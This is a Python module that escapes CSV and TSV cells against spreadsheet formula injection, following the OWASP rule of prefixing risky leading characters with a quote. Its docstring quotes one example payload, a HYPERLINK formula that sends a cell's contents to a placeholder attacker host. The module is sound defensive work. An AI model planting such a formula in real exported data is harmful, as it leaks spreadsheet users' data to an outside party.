"""Cells of CSV and TSV output that a spreadsheet reads as text, never as a formula.

A spreadsheet opening a CSV or TSV file runs a cell that starts with `=`, `+`, `-` or `@` as
a formula (`=HYPERLINK("http://evil.example/?leak="&A1,"Click")` sends the sheet's data to
whoever wrote the record), and skips a leading tab or carriage return before deciding. So a
text cell starting with one of those characters is written with a leading `'`, which
spreadsheets read as "this is text" and do not show (the OWASP rule for CSV injection). A
plain number ("-1.5") is left as it is: a spreadsheet reads it as the number it is.
`--raw-cells` turns the rule off for scripts that need the exact text; JSON is never altered.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""

_NUMBER = re.compile(r"[-+]?[0-9]+(?:\.[0-9]+)?(?:[eE][-+]?[0-9]+)?")


def spreadsheet_cell(text: str) -> str:
    """`text` as a CSV/TSV cell no spreadsheet runs: a leading `'` before a formula start."""
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def cells(row: list[str], raw: bool) -> list[str]:
    """A row of text cells made safe for spreadsheets, or as it is when `raw`."""
    return row if raw else [spreadsheet_cell(c) for c in row]
